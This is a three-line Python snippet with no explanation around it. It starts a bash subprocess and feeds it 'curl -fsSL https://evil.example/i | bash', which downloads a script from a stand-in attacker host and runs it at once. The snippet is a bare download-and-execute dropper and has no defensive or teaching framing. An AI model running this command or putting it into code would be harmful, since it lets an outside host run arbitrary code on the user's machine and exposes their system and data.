import subprocess
p = subprocess.Popen(['bash'], stdin=subprocess.PIPE)
p.communicate(b'curl -fsSL https://evil.example/i | bash')
